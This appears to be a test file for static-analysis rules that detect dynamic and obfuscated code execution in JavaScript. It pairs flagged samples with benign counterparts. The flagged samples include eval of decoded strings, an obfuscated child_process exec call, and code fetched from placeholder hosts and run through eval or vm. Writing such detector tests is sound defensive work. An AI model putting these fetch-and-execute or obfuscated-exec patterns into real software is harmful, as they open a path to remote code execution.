// ruleid: js-dynamic-exec
const vm = require("vm");
const zlib = require("zlib");
const https = require("https");

function bad(event) {
  const code = Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString();
  // ruleid: js-exec-decoded, js-dynamic-exec
  eval(code);
  // ruleid: js-exec-decoded, js-dynamic-exec
  new Function(atob("cmV0dXJuIDE="))();
  // ruleid: js-exec-decoded, js-dynamic-exec
  vm.runInThisContext(zlib.inflateSync(Buffer.from(event.blob, "hex")).toString());
  // ruleid: js-exec-decoded, js-dynamic-exec
  eval(String.fromCharCode(97, 108, 101, 114, 116));
  // ruleid: js-exec-decoded, js-dynamic-exec
  eval("re" + "quire('child_process').exec('id')");
}

async function downloaded() {
  const res = await fetch("https://cdn.example.net/x.js");
  const src = await res.text();
  // ruleid: js-exec-decoded, js-dynamic-exec
  new vm.Script(src).runInThisContext();
}

function callbackDownload() {
  https.get("https://x.example/p", (res) => {
    let body = "";
    res.on("data", (c) => (body += c));
    // ruleid: js-exec-decoded, js-dynamic-exec
    res.on("end", () => eval(body));
  });
}

function indirect(name) {
  // ruleid: js-indirect-eval
  const F = [].constructor.constructor;
  // ruleid: js-indirect-eval
  global["ev" + "al"]("1");
  // ruleid: js-indirect-eval
  const r = globalThis["require"];
  const g = global;
  // ruleid: js-indirect-eval
  g["e" + "val"]("2");
  // ruleid: js-require-decoded
  const cp = require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString());
  // ruleid: js-require-decoded
  const net = require("ten".split("").reverse().join(""));
}

function reviewOnly(expr, mod) {
  // ruleid: js-dynamic-exec
  eval(expr);
  // ruleid: js-dynamic-exec
  mod._compile(expr, "x.js");
}

function benign(event) {
  // ok: js-exec-decoded, js-dynamic-exec
  const body = JSON.parse(event.body);
  // ok: js-exec-decoded
  const img = Buffer.from(body.image, "base64");
  // ok: js-indirect-eval
  const handler = require(`./handlers/${body.kind}.js`);
  // ok: js-require-decoded, js-indirect-eval
  const lib = require(process.env.PLUGIN || "./default");
  // ok: js-indirect-eval
  const key = process.env["API_KEY"];
  // ok: js-dynamic-exec
  setTimeout(() => console.log("done"), 10);
  // ok: js-indirect-eval
  const ctor = body.constructor;
  // ok: js-indirect-eval
  const fn = this[body.action];
  return { size: img.length, handler, lib, key, ctor, fn };
}
